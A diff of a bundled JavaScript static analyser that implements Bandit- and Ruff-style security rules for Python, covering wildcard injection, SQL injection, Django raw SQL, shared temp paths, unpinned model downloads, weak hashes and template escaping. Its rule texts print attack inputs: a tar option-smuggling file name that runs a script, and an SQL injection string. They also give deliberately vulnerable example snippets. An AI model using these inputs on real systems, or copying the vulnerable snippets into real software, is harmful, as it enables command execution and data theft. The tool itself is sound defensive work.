-    full: 'A process is started with a literal program name that is not an absolute path, so the program is looked up through PATH; a writable directory early in PATH lets someone else\'s program run instead.',
-    title: 'A process started with a partial path',
-    why: 'A bare program name (`"git"`) is searched in the directories of `PATH`. If an attacker can add or write a directory that comes first there, their program runs instead of the intended one, with the program\'s privileges.',
-    example: 'import subprocess\n\nsubprocess.run(["git", "status"])',
-    fix: 'Use an absolute path (`/usr/bin/git`), or resolve it once with `shutil.which()` under a controlled `PATH`.',
-    notReported: ['Programs given by a variable or built at run time.', 'Absolute paths (`/`, `\\\\`, or a drive letter).'],
-});
-const WILDCARD_COMMANDS = /^\s*(?:\S*\/)?(chown|chmod|tar|rsync)\b/;
-function wildcardCommand(call) {
-    const command = (0, calls_1.argumentAt)(call.node, 0, 'args');
-    if (!command)
-        return false;
-    const expr = (0, calls_1.unparenthesize)(command);
-    let text;
-    if (expr.type === 'list' || expr.type === 'tuple') {
-        const items = expr.namedChildren.filter((c) => c && c.type !== 'comment').map((c) => (0, calls_1.stringLiteralValue)(c));
-        if (items.some((i) => i === undefined))
-            return false;
-        text = items.join(' ');
-    }
-    else
-        text = (0, calls_1.stringLiteralValue)(expr);
-    return text !== undefined && text.includes('*') && WILDCARD_COMMANDS.test(text);
-}
-exports.unixCommandWildcardInjection = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'unix-command-wildcard-injection', name: 'UnixCommandWildcardInjection', bandit: 'B609', ruff: 'S609', severity: 'HIGH', confidence: 'MEDIUM',
-        category: 'injection', cwe: [155],
-        short: 'wildcard in a shell command for chown, chmod, tar or rsync',
-        full: 'A shell command runs chown, chmod, tar or rsync with a * wildcard. The shell expands the wildcard into file names, and a file named like an option (--checkpoint-action=..., --reference=...) becomes an option of the command.',
-        title: 'Wildcard injection in a shell command',
-        why: 'The shell expands `*` into the names of the files present. Anyone who can create a file in that directory can name it `--checkpoint-action=exec=sh evil.sh` (tar) or `--reference=mine` (chown/chmod), and the command reads it as an option.',
-        example: 'import os\n\nos.system("tar cf backup.tar *")',
-        fix: 'Put `--` before the file list (`tar cf backup.tar -- *`), or build the file list in Python (`glob.glob`) and pass it as arguments without a shell.',
-        notReported: ['Commands built at run time (not literals).', 'Calls without a shell (a `subprocess` call without `shell=True`).'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            return {
-                end() {
-                    const model = context.analysis('calls');
-                    for (const call of model.callsToAssumed([...exports.SHELL_FUNCTIONS, ...subprocess_shell_true_1.SUBPROCESS_FUNCTIONS])) {
-                        if (subprocess_shell_true_1.SUBPROCESS_FUNCTIONS.includes(call.assumedName)) {
-                            const shell = (0, calls_1.keywordValue)(call.node, 'shell');
-                            if (!shell || (0, calls_1.truthiness)(shell) !== true)
-                                continue;
-                        }
-                        if (wildcardCommand(call))
-                            context.report(meta, call.callee, `${(0, common_1.callName)(call)} runs a command with a wildcard that file names can turn into options`);
-                    }
-                },
-            };
-        },
-    };
-})();
-
-
-/***/ }),
-
-/***/ 4950:
-/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
-
-
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.djangoRawSql = exports.djangoExtra = exports.hardcodedSqlExpression = void 0;
+exports.hardcodedSqlExpression = void 0;
 exports.builtSql = builtSql;
-const calls_1 = __nccwpck_require__(4463);
+const literals_1 = __nccwpck_require__(8436);
 const common_1 = __nccwpck_require__(8925);
 /** One of these words is in every text `SQL` matches (in one piece of it, for a single string). */
 const SQL_WORD = /select|delete|insert|replace|update/i;
 const SQL = /\b(select\s[\s\S]*\sfrom\s|delete\s+from\s|(insert|replace)\s[\s\S]*\svalues\s|update\s[\s\S]*\sset\s)/i;
 /** The literal text of a string, f-string fields replaced by a space; undefined for non-strings. */
 function literalText(node) {
-    const expr = (0, calls_1.unparenthesize)(node);
+    const expr = (0, literals_1.unparenthesize)(node);
     if (expr.type === 'concatenated_string') {
         const parts = expr.namedChildren.filter((c) => c && c.type === 'string').map((c) => literalText(c));
         return parts.some((p) => p === undefined) ? undefined : parts.join('');
     }
     if (expr.type !== 'string')
         return undefined;
-    const plain = (0, calls_1.stringLiteralValue)(expr);
+    const plain = (0, literals_1.stringLiteralValue)(expr);
     if (plain !== undefined)
         return plain;
     let text = '';
@@ -10957,7 +11380,7 @@ function literalText(node) {
     return text;
 }
 function hasInterpolation(node) {
-    const expr = (0, calls_1.unparenthesize)(node);
+    const expr = (0, literals_1.unparenthesize)(node);
     if (expr.type === 'concatenated_string')
         return expr.namedChildren.some((c) => !!c && hasInterpolation(c));
     return expr.type === 'string' && expr.namedChildren.some((c) => c?.type === 'interpolation');
@@ -10968,7 +11391,7 @@ function plusOperands(node, consumed) {
     const out = [];
     const pending = [node];
     while (pending.length > 0) {
-        const expr = (0, calls_1.unparenthesize)(pending.pop());
+        const expr = (0, literals_1.unparenthesize)(pending.pop());
         if (expr.type === 'binary_operator' && expr.childForFieldName('operator')?.type === '+') {
             consumed?.add(expr.id);
             pending.push(expr.childForFieldName('right'), expr.childForFieldName('left'));
@@ -10992,7 +11415,7 @@ function builtSql(node, handled = new Set()) {
             if (op === '%') {
                 const left = node.childForFieldName('left');
                 if (left)
-                    handled.add((0, calls_1.unparenthesize)(left).id);
+                    handled.add((0, literals_1.unparenthesize)(left).id);
                 return left ? literalText(left) : undefined;
             }
             if (op === '+') {
@@ -11024,255 +11447,1146 @@ function builtSql(node, handled = new Set()) {
             return undefined;
     }
 }
-exports.hardcodedSqlExpression = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'hardcoded-sql-expression', name: 'HardcodedSqlExpression', bandit: 'B608', ruff: 'S608', severity: 'MEDIUM', confidence: 'LOW',
-        category: 'injection', cwe: [89],
-        short: 'SQL query built with string formatting or concatenation',
-        full: 'A string that looks like an SQL statement (SELECT ... FROM, INSERT ... VALUES, UPDATE ... SET, DELETE FROM) is built with %, +, .format() or an f-string. Values pasted into SQL text can change the query (SQL injection).',
-        title: 'SQL built from strings',
-        why: 'When values are pasted into SQL text, quotes and keywords inside them become part of the query: `name = "x\' OR \'1\'=\'1"` turns a lookup into a dump of the table. The database cannot tell the intended query from the injected one.',
-        example: 'cursor.execute("SELECT * FROM users WHERE name = \'%s\'" % name)',
-        fix: 'Pass values as query parameters: `cursor.execute("SELECT * FROM users WHERE name = %s", (name,))` (the placeholder depends on the driver), or use a query builder/ORM. Table and column names cannot be parameters: check them against a fixed list.',
-        notReported: [
-            'SQL strings that are single literals (a `+` of literals is reported, as Ruff does: it is how queries grow variable parts).',
-            'Strings that do not look like SQL statements (the match is a pattern, so some false positives and misses are expected: Bandit gives this check low confidence, and Tendril keeps that precision for every case).',
-        ],
-    });
-    return {
-        meta,
-        create(context) {
-            const handled = new Set();
-            const check = (node) => {
-                const text = builtSql(node, handled);
-                if (text !== undefined && SQL.test(text))
-                    context.report(meta, node, 'possible SQL injection: a query is built from strings; pass values as query parameters');
-            };
-            // Calls and single strings that cannot build a query are told from their source text alone
-            // (`builtSql` marks nothing as handled for those two kinds, so skipping them changes nothing
-            // else): a call needs `.format`; a string needs a `{}` field and, when it spells no escape,
-            // one of the query's words.
-            return {
-                binary_operator: check,
-                concatenated_string: check,
-                call(node) {
-                    if (context.textOf(node).includes('format'))
-                        check(node);
-                },
-                string(node) {
-                    const source = context.textOf(node);
-                    if (source.includes('{') && (source.includes('\\') || SQL_WORD.test(source)))
-                        check(node);
-                },
-            };
-        },
-    };
-})();
-/** A literal string, or a list/tuple/dict made only of literal strings. */
-function allLiteral(node) {
-    const expr = (0, calls_1.unparenthesize)(node);
-    if ((0, calls_1.stringLiteralValue)(expr) !== undefined)
-        return true;
-    if (expr.type === 'list' || expr.type === 'tuple' || expr.type === 'set') {
-        return expr.namedChildren.every((c) => !c || c.type === 'comment' || allLiteral(c));
-    }
-    if (expr.type === 'dictionary') {
-        return expr.namedChildren.every((c) => {
-            if (!c || c.type === 'comment')
-                return true;
-            if (c.type !== 'pair')
-                return false;
-            const value = c.childForFieldName('value');
-            return !!value && allLiteral(value);
-        });
-    }
-    return false;
-}
-exports.djangoExtra = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'django-extra', name: 'DjangoExtra', bandit: 'B610', ruff: 'S610', severity: 'MEDIUM', confidence: 'MEDIUM',
-        category: 'injection', cwe: [89],
-        short: 'Django QuerySet.extra() with SQL that is not a literal',
-        full: 'QuerySet.extra() inserts its select, where, tables and order_by strings into the SQL as they are. Given anything other than literals, it is open to SQL injection.',
-        title: 'Django `extra()` with SQL built at run time',
-        why: '`extra()` pastes its arguments into the generated SQL unescaped. A value from outside the program in `where=` or `select=` can rewrite the query.',
-        example: 'Entry.objects.extra(where=[f"headline = \'{headline}\'"])',
-        fix: 'Use the ORM (`filter`, `annotate`, `F`, `Func` expressions); if raw SQL is needed, keep it literal and pass values through `params=`.',
-        notReported: ['`extra()` arguments that are literal strings, or lists, tuples and dicts of literal strings.', '`params=` and `select_params=` (they are passed as parameters).', 'Files that do not import from `django`.'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            let importsDjango = false;
-            const imported = (node) => {
-                if (/\bdjango\b/.test(node.text))
-                    importsDjango = true;
-            };
-            return {
-                import_statement: imported,
-                import_from_statement: imported,
-                end() {
-                    if (!importsDjango)
-                        return;
-                    for (const call of context.analysis('calls').calls) {
-                        if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'extra' || !call.args)
-                            continue;
-                        const args = call.args.namedChildren.filter((c) => !!c && c.type !== 'comment');
-                        const risky = args.some((a) => {
-                            if (a.type === 'keyword_argument') {
-                                const name = a.childForFieldName('name')?.text;
-                                if (name === 'params' || name === 'select_params')
-                                    return false;
-                                const value = a.childForFieldName('value');
-                                return !!value && !allLiteral(value);
-                            }
-                            return a.type !== 'list_splat' && a.type !== 'dictionary_splat' && !allLiteral(a);
-                        });
-                        if (risky)
-                            context.report(meta, call.callee, '`extra()` with SQL that is not a literal is open to SQL injection');
-                    }
-                },
-            };
-        },
-    };
-})();
-exports.djangoRawSql = (0, common_1.callRule)({
-    id: 'django-raw-sql', name: 'DjangoRawSql', bandit: 'B611', ruff: 'S611', severity: 'MEDIUM', confidence: 'MEDIUM',
-    category: 'injection', cwe: [89], functions: ['django.db.models.expressions.RawSQL', 'django.db.models.RawSQL'],
-    check: (call) => {
-        const sql = (0, calls_1.argumentAt)(call.node, 0, 'sql');
-        return sql !== undefined && sql.type !== 'list_splat' && (0, calls_1.stringLiteralValue)(sql) === undefined;
+exports.hardcodedSqlExpression = (0, common_1.securityRule)({
+    id: 'hardcoded-sql-expression', name: 'HardcodedSqlExpression', bandit: 'B608', ruff: 'S608', severity: 'MEDIUM', confidence: 'LOW',
+    category: 'injection', cwe: [89],
+    short: 'SQL query built with string formatting or concatenation',
+    full: 'A string that looks like an SQL statement (SELECT ... FROM, INSERT ... VALUES, UPDATE ... SET, DELETE FROM) is built with %, +, .format() or an f-string. Values pasted into SQL text can change the query (SQL injection).',
+    title: 'SQL built from strings',
+    why: 'When values are pasted into SQL text, quotes and keywords inside them become part of the query: `name = "x\' OR \'1\'=\'1"` turns a lookup into a dump of the table. The database cannot tell the intended query from the injected one.',
+    example: 'cursor.execute("SELECT * FROM users WHERE name = \'%s\'" % name)',
+    fix: 'Pass values as query parameters: `cursor.execute("SELECT * FROM users WHERE name = %s", (name,))` (the placeholder depends on the driver), or use a query builder/ORM. Table and column names cannot be parameters: check them against a fixed list.',
+    fixed: 'cursor.execute("SELECT * FROM users WHERE name = %s", (name,))',
+    notReported: [
+        'SQL strings that are single literals (a `+` of literals is reported, as Ruff does: it is how queries grow variable parts).',
+        'Strings that do not look like SQL statements (the match is a pattern, so some false positives and misses are expected: Bandit gives this check low confidence, and Tendril keeps that precision for every case).',
+    ],
+    create(context) {
+        const handled = new Set();
+        const check = (node) => {
+            const text = builtSql(node, handled);
+            if (text !== undefined && SQL.test(text))
+                context.report(node, 'possible SQL injection: a query is built from strings; pass values as query parameters');
+        };
+        // Calls and single strings that cannot build a query are told from their source text alone
+        // (`builtSql` marks nothing as handled for those two kinds, so skipping them changes nothing
+        // else): a call needs `.format`; a string needs a `{}` field and, when it spells no escape,
+        // one of the query's words.
+        return {
+            binary_operator: check,
+            concatenated_string: check,
+            call(node) {
+                if (context.textOf(node).includes('format'))
+                    check(node);
+            },
+            string(node) {
+                const source = context.textOf(node);
+                if (source.includes('{') && (source.includes('\\') || SQL_WORD.test(source)))
+                    check(node);
+            },
+        };
     },
-    message: (call) => `${(0, common_1.callName)(call)} with SQL that is not a literal is open to SQL injection; pass values through \`params\``,
-    short: 'Django RawSQL with SQL that is not a literal',
-    full: 'django RawSQL inserts its SQL text into the query as it is; SQL built at run time is open to SQL injection.',
-    title: 'Django `RawSQL` with SQL built at run time',
-    why: '`RawSQL(sql, params)` puts `sql` into the query unescaped. Values formatted into it can change the query.',
-    example: 'from django.db.models.expressions import RawSQL\n\nqs.annotate(v=RawSQL(f"select col from t where id = {pk}", []))',
-    fix: 'Keep the SQL literal with placeholders and pass values in `params`: `RawSQL("select col from t where id = %s", (pk,))`.',
-    notReported: ['Literal SQL strings.', 'Positional arguments given only by `*args`.'],
 });
 
 
 /***/ }),
 
-/***/ 485:
+/***/ 4032:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.snmpWeakCryptography = exports.snmpInsecureVersion = exports.sshNoHostKeyVerification = void 0;
+exports.hardcodedTmpDirectory = void 0;
+/** Bandit B108 / Ruff S108: a string literal naming a path in a shared temporary directory. */
+const common_1 = __nccwpck_require__(8925);
+const string_literals_1 = __nccwpck_require__(3694);
+const TMP_PREFIXES = ['/tmp', '/var/tmp', '/dev/shm'];
+exports.hardcodedTmpDirectory = (0, common_1.securityRule)({
+    id: 'hardcoded-tmp-directory', name: 'HardcodedTmpDirectory', bandit: 'B108', ruff: 'S108', severity: 'MEDIUM', confidence: 'MEDIUM',
+    category: 'files', cwe: [377],
+    short: 'hardcoded path in a shared temporary directory (/tmp, /var/tmp, /dev/shm)',
+    full: 'A string literal naming a path under /tmp, /var/tmp or /dev/shm. Every user of the machine can create files there, so a fixed name can be taken over in advance (a symlink or a file with the attacker\'s content).',
+    title: 'A hardcoded path in a shared temporary directory',
+    why: 'Shared temporary directories are writable by every local user. A program that uses a fixed, predictable name there can be tricked: another user creates that file first, or a symlink to a file the program may write, and the program reads the attacker\'s data or overwrites the target.',
+    example: 'with open("/tmp/report.csv", "w") as f:\n    f.write(data)',
+    fix: 'Use the `tempfile` module (`NamedTemporaryFile`, `mkstemp`, `TemporaryDirectory`), which picks an unpredictable name and creates it atomically with private permissions.',
+    fixed: 'import tempfile\n\nwith tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False) as f:\n    f.write(data)',
+    notReported: ['Paths built at run time, and paths outside `/tmp`, `/var/tmp` and `/dev/shm`.'],
+    create(context) {
+        return (0, string_literals_1.literalStrings)(context, TMP_PREFIXES, (node, value) => {
+            if (TMP_PREFIXES.some((p) => value.startsWith(p))) {
+                context.report(node, 'hardcoded path in a shared temporary directory; use the tempfile module');
+            }
+        });
+    },
+});
+
+
+/***/ }),
+
+/***/ 2009:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.huggingfaceUnpinnedDownload = void 0;
+const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+const HF_FUNCTIONS = ['huggingface_hub.hf_hub_download', 'huggingface_hub.snapshot_download', 'datasets.load_dataset'];
+/** True for a revision that names a fixed commit (7 to 64 hex digits). */
+function pinned(node) {
+    if (!node)
+        return false;
+    const value = (0, literals_1.stringLiteralValue)(node);
+    return value !== undefined && /^[0-9a-f]{7,64}$/i.test(value);
+}
+exports.huggingfaceUnpinnedDownload = (0, common_1.securityRule)({
+    id: 'huggingface-unpinned-download', name: 'HuggingfaceUnpinnedDownload', bandit: 'B615', severity: 'MEDIUM', confidence: 'HIGH',
+    category: 'supply-chain', cwe: [494],
+    short: 'Hugging Face download not pinned to a commit revision',
+    full: 'A model or dataset is downloaded from the Hugging Face Hub (from_pretrained, hf_hub_download, snapshot_download, load_dataset) without revision= set to a commit hash, so whatever the repository holds at run time is used.',
+    title: 'An unpinned Hugging Face download',
+    why: 'Without a pinned `revision`, every run downloads the repository\'s current state. If the repository is changed or taken over, the program loads the new files, which for pickle-based models means running their code.',
+    example: 'from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("org/model")',
+    fix: 'Pin a commit: `AutoModel.from_pretrained("org/model", revision="<commit sha>")`, and prefer safetensors weights.',
+    fixed: 'from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("org/model", revision="3f2a9c1d5e7b8a6f4c2d0e9b1a3c5e7f9d2b4a6c")',
+    notReported: ['`revision=` set to a literal commit hash (7 to 64 hexadecimal digits).', 'Files that import none of `transformers`, `huggingface_hub` and `datasets`.', 'Local paths are not told apart from Hub names: a `from_pretrained("./dir")` is reported.'],
+    uses: [calls_1.calls],
+    create(context) {
+        let imports = false;
+        const imported = (node) => {
+            if (/\b(transformers|huggingface_hub|datasets)\b/.test(node.text))
+                imports = true;
+        };
+        return {
+            import_statement: imported,
+            import_from_statement: imported,
+            end() {
+                if (!imports)
+                    return;
+                for (const call of context.analysis(calls_1.calls).calls) {
+                    const isHub = call.assumedName !== undefined && HF_FUNCTIONS.includes(call.assumedName);
+                    const isPretrained = call.callee.type === 'attribute' && call.callee.childForFieldName('attribute')?.text === 'from_pretrained';
+                    if (!isHub && !isPretrained)
+                        continue;
+                    if (pinned((0, arguments_1.keywordValue)(call.node, 'revision')))
+                        continue;
+                    context.report(call.callee, `${(0, common_1.callName)(call)} is not pinned to a commit with \`revision=\`: the files used can change under the program`);
+                }
+            },
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 673:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.insecureHashlibFunction = void 0;
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+const INSECURE_HASHES = new Set(['md4', 'md5', 'sha', 'sha1', 'md2']);
+/** `usedforsecurity=False` written as a constant: the hash is declared non-cryptographic. */
+function notForSecurity(call) {
+    const value = (0, arguments_1.keywordValue)(call.node, 'usedforsecurity');
+    return value !== undefined && (0, literals_1.truthiness)(value) === false;
+}
+exports.insecureHashlibFunction = (0, common_1.callRule)({
+    id: 'insecure-hashlib-function', name: 'InsecureHashlibFunction', bandit: 'B324', ruff: 'S324',
+    severity: 'HIGH', confidence: 'HIGH', category: 'cryptography', cwe: [327],
+    functions: ['hashlib.new', ...(0, common_1.qualify)('hashlib', 'md4 md5 sha sha1')],
+    check: (call) => {
+        if (notForSecurity(call))
+            return false;
+        if (call.assumedName !== 'hashlib.new')
+            return true;
+        const name = (0, arguments_1.argumentAt)(call.node, 0, 'name');
+        const value = name ? (0, literals_1.stringLiteralValue)(name) : undefined;
+        return value !== undefined && INSECURE_HASHES.has(value.toLowerCase()) ? name : false;
+    },
+    message: (call) => `${(0, common_1.callName)(call)} uses a broken hash algorithm; pass \`usedforsecurity=False\` if it is not used for security, or use SHA-256`,
+    short: 'hashlib with MD4, MD5 or SHA-1 used for security',
+    full: 'hashlib is called for MD4, MD5 or SHA-1 (directly or through hashlib.new) without usedforsecurity=False. These algorithms have practical collision attacks and must not protect integrity or passwords.',
+    title: 'A broken hash algorithm from hashlib',
+    why: 'MD4, MD5 and SHA-1 are broken for security purposes: collisions can be made on demand, and they are fast enough to brute-force passwords. Python lets code declare a non-security use with `usedforsecurity=False` (3.9+).',
+    example: 'import hashlib\n\nsignature = hashlib.md5(secret + body).hexdigest()',
+    fix: 'Use `hashlib.sha256` (or `hmac` with SHA-256 for message authentication, `hashlib.scrypt` for passwords). When the hash is only a checksum or cache key, say so: `hashlib.md5(data, usedforsecurity=False)`.',
+    fixed: 'import hashlib, hmac\n\nsignature = hmac.new(secret, body, hashlib.sha256).hexdigest()',
+    notReported: ['`usedforsecurity=False`.', '`hashlib.new(name)` where the name is not a literal naming a broken algorithm.', 'SHA-2, SHA-3 and BLAKE2.'],
+});
+
+
+/***/ }),
+
+/***/ 5033:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.jinja2AutoescapeFalse = void 0;
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+exports.jinja2AutoescapeFalse = (0, common_1.callRule)({
+    id: 'jinja2-autoescape-false', name: 'Jinja2AutoescapeFalse', bandit: 'B701', ruff: 'S701', severity: 'HIGH', confidence: 'HIGH',
+    category: 'xss', cwe: [94, 79], functions: ['jinja2.Environment', 'jinja2.environment.Environment'],
+    check: (call, model) => {
+        const value = (0, arguments_1.keywordValue)(call.node, 'autoescape');
+        if (!value)
+            return !call.args?.namedChildren.some((c) => c?.type === 'dictionary_splat');
+        const expr = (0, literals_1.unparenthesize)(value);
+        if ((0, literals_1.truthiness)(expr) === true)
+            return false;
+        if ((0, literals_1.truthiness)(expr) === false)
+            return (0, arguments_1.keywordArgument)(call.node, 'autoescape');
+        if (expr.type === 'call') {
+            const fn = expr.childForFieldName('function');
+            const q = fn ? model.resolveAssumed(fn) : undefined;
+            if (q === 'jinja2.select_autoescape' || fn?.text === 'select_autoescape' || fn?.text.endsWith('.select_autoescape'))
+                return false;
+        }
+        return (0, arguments_1.keywordArgument)(call.node, 'autoescape');
+    },
+    message: (call) => `${(0, common_1.callName)(call)} without \`autoescape=True\` (or \`select_autoescape()\`) renders values unescaped: cross-site scripting`,
+    short: 'Jinja2 environment without autoescaping',
+    full: 'A jinja2.Environment is created with autoescape missing or false, so values rendered into HTML templates are not escaped and can inject script (XSS).',
+    title: 'Jinja2 autoescaping turned off',
+    why: 'Jinja2 does not escape by default. Every `{{ value }}` in an HTML template then reaches the page as markup, so a user-supplied value containing `<script>` runs in other users\' browsers.',
+    example: 'import jinja2\n\nenv = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"))',
+    fix: 'Create the environment with `autoescape=jinja2.select_autoescape()` (escapes HTML and XML templates) or `autoescape=True`.',
+    fixed: 'import jinja2\n\nenv = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"), autoescape=jinja2.select_autoescape())',
+    notReported: ['`autoescape=True` or another true constant, and `autoescape=select_autoescape(...)`.', 'Calls passing `**kwargs` without `autoescape=`.', 'Bandit gives a non-constant `autoescape=` medium confidence; this rule reports it with the same high severity and keeps one precision for the rule.'],
+});
+
+
+/***/ }),
+
+/***/ 7538:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.generatedKeys = generatedKeys;
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const HAZMAT = 'cryptography.hazmat.primitives.asymmetric';
+const FUNCTIONS = {
+    [`${HAZMAT}.dsa.generate_private_key`]: { kind: 'DSA', index: 0, keyword: 'key_size' },
+    [`${HAZMAT}.rsa.generate_private_key`]: { kind: 'RSA', index: 1, keyword: 'key_size' },
+    [`${HAZMAT}.ec.generate_private_key`]: { kind: 'EC', index: 0, keyword: 'curve' },
+    'Crypto.PublicKey.DSA.generate': { kind: 'DSA', index: 0, keyword: 'bits' },
+    'Crypto.PublicKey.RSA.generate': { kind: 'RSA', index: 0, keyword: 'bits' },
+    'Cryptodome.PublicKey.DSA.generate': { kind: 'DSA', index: 0, keyword: 'bits' },
+    'Cryptodome.PublicKey.RSA.generate': { kind: 'RSA', index: 0, keyword: 'bits' },
+};
+/** Weak elliptic curves and their sizes in bits. */
+const EC_CURVES = { SECP192R1: 192, SECT163K1: 163, SECT163R2: 163 };
+/** Bit size of the key a call asks for, when it is a constant. */
+function keyBits(call, spec, model) {
+    const arg = (0, arguments_1.argumentAt)(call.node, spec.index, spec.keyword);
+    if (!arg || arg.type === 'list_splat')
+        return undefined;
+    const expr = (0, literals_1.unparenthesize)(arg);
+    if (spec.kind === 'EC') {
+        const target = expr.type === 'call' ? expr.childForFieldName('function') : expr;
+        const q = target ? model.resolveAssumed(target) : undefined;
+        const curve = q?.startsWith(`${HAZMAT}.ec.`) ? q.slice(HAZMAT.length + 4) : undefined;
+        return curve && curve in EC_CURVES ? [EC_CURVES[curve], arg] : undefined;
+    }
+    if (expr.type !== 'integer')
+        return undefined;
+    const bits = Number(expr.text.replace(/_/g, ''));
+    return Number.isFinite(bits) ? [bits, arg] : undefined;
+}
+/** The key-generating calls whose key size is a constant, in the order of the call model. */
+function generatedKeys(model) {
+    const out = [];
+    for (const call of model.callsToAssumed(Object.keys(FUNCTIONS))) {
+        const spec = FUNCTIONS[call.assumedName];
+        const found = keyBits(call, spec, model);
+        if (!found)
+            continue;
+        const [bits, at] = found;
+        const [breakableBelow, recommended] = spec.kind === 'EC' ? [160, 224] : [1024, 2048];
+        out.push({ call, kind: spec.kind, bits, at, breakableBelow, recommended });
+    }
+    return out;
+}
+
+
+/***/ }),
+
+/***/ 9185:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.loggingConfigInsecureListen = void 0;
+/** Bandit B612 / Ruff S612: `logging.config.listen` without a `verify` function. */
+const arguments_1 = __nccwpck_require__(9950);
+const common_1 = __nccwpck_require__(8925);
+exports.loggingConfigInsecureListen = (0, common_1.callRule)({
+    id: 'logging-config-insecure-listen', name: 'LoggingConfigInsecureListen', bandit: 'B612', ruff: 'S612', severity: 'MEDIUM', confidence: 'HIGH',
+    category: 'injection', cwe: [94], functions: ['logging.config.listen'],
+    check: (call) => !(0, arguments_1.keywordArgument)(call.node, 'verify'),
+    message: (call) => `${(0, common_1.callName)(call)} without \`verify=\` accepts logging configurations from anyone who can connect, and configurations can run code`,
+    short: 'logging.config.listen without a verify function',
+    full: 'logging.config.listen opens a socket that accepts logging configurations; configurations can name classes to instantiate, so without verify= anyone who can connect can run code.',
+    title: '`logging.config.listen` without verification',
+    why: 'The listener applies any configuration it receives with `dictConfig`/`fileConfig`, which import and call the classes it names. Without a `verify` callable, whoever reaches the port runs code in the process.',
+    example: 'import logging.config\n\nthread = logging.config.listen(9999)',
+    fix: 'Pass `verify=` a function that checks a signature (or rejects everything unexpected), and bind to a trusted interface only.',
+    fixed: 'import logging.config\n\nthread = logging.config.listen(9999, verify=check_signature)',
+    notReported: ['Calls that pass `verify=` as a keyword. A `verify` passed positionally is still reported, as Bandit and Ruff do: write it as a keyword.'],
+});
+
+
+/***/ }),
+
+/***/ 9914:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.makoTemplates = void 0;
+/** Bandit B702 / Ruff S702: Mako templates, which render values without HTML escaping. */
+const arguments_1 = __nccwpck_require__(9950);
+const common_1 = __nccwpck_require__(8925);
+exports.makoTemplates = (0, common_1.callRule)({
+    id: 'mako-templates', name: 'MakoTemplates', bandit: 'B702', ruff: 'S702', severity: 'MEDIUM', confidence: 'HIGH',
+    category: 'xss', cwe: [80], functions: ['mako.template.Template', 'mako.lookup.TemplateLookup'],
+    check: (call) => call.assumedName === 'mako.template.Template' || !(0, arguments_1.keywordArgument)(call.node, 'default_filters'),
+    message: (call) => `${(0, common_1.callName)(call)}: Mako does not escape HTML by default: cross-site scripting`,
+    short: 'Mako templates render values without HTML escaping',
+    full: 'Mako templates do not escape expressions by default, so values rendered into HTML can inject script (XSS).',
+    title: 'Mako templates without escaping',
+    why: 'Mako renders `${value}` as is unless a filter is applied. In an HTML template, a user-supplied value containing markup reaches the page as markup.',
+    example: 'from mako.template import Template\n\nhtml = Template("<p>${name}</p>").render(name=name)',
+    fix: 'Pass `default_filters=["h"]` (HTML escaping) to `Template`/`TemplateLookup`, or escape each expression with `${value | h}`; review the alert after that.',
+    fixed: 'from mako.lookup import TemplateLookup\n\nlookup = TemplateLookup(directories=["templates"], default_filters=["h"])\nhtml = lookup.get_template("name.html").render(name=name)',
+    notReported: ['`TemplateLookup` calls that set `default_filters=`.'],
+});
+
+
+/***/ }),
+
+/***/ 655:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.marksNonLiteral = marksNonLiteral;
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+/** True when the call's first argument (`s=`/`object=`) is given and is not a literal string. */
+function marksNonLiteral(call) {
+    const value = (0, arguments_1.argumentAt)(call.node, 0, 's') ?? (0, arguments_1.argumentAt)(call.node, 0, 'object');
+    return value !== undefined && value.type !== 'list_splat' && (0, literals_1.stringLiteralValue)(value) === undefined;
+}
+
+
+/***/ }),
+
+/***/ 4638:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.paramikoExecCommand = void 0;
+const calls_1 = __nccwpck_require__(4463);
+const common_1 = __nccwpck_require__(8925);
+exports.paramikoExecCommand = (0, common_1.securityRule)({
+    id: 'paramiko-exec-command', name: 'ParamikoExecCommand', bandit: 'B601', ruff: 'S601', severity: 'MEDIUM', confidence: 'MEDIUM',
+    category: 'injection', cwe: [78],
+    short: 'paramiko exec_command runs a command through the remote shell',
